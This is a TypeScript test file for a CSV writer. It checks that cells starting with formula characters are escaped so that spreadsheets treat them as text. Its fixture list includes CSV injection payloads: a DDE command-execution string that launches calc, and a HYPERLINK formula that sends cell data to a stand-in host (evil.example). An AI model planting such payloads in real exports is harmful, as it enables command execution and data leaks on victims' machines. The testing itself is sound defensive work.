import { describe, expect, test } from 'vitest';
import { rowOf } from '../../../src/outputs/csv/rows.js';
import { csvText } from '../../../src/report/csv-text.js';

const formulas = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.example?"&A1)',
  '+1+cmd|x',
  '-2+3+cmd|x',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
];

/** A cell as a spreadsheet reads it. */
const unquoted = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);

describe('a text that a spreadsheet would compute', () => {
  test.each(formulas)('%j stays a text in a table of attempts', formula => {
    const text = csvText([[formula]]);
    expect(unquoted(text.slice(0, -1))).toBe(`'${formula}`);
  });

  test.each(formulas)('%j stays a text in an output', formula => {
    const tags = { run: formula, scenario: 's', target: 't', model: 'm' };
    const row = rowOf({ measurement: 'busytone_mark', nanoseconds: '0000000', tags, fields: {} } as never, {
      tags: ['run'],
      fields: [],
    });
    const [, cell = ''] = /^[^,]*,([\s\S]*)\r\n$/.exec(row) ?? [];
    expect(unquoted(cell)).toBe(`'${formula}`);
  });

  test('numbers stay numbers', () => expect(csvText([[-1, 2.5, null, true, 'a-b']])).toBe('-1,2.5,,true,a-b\n'));
});
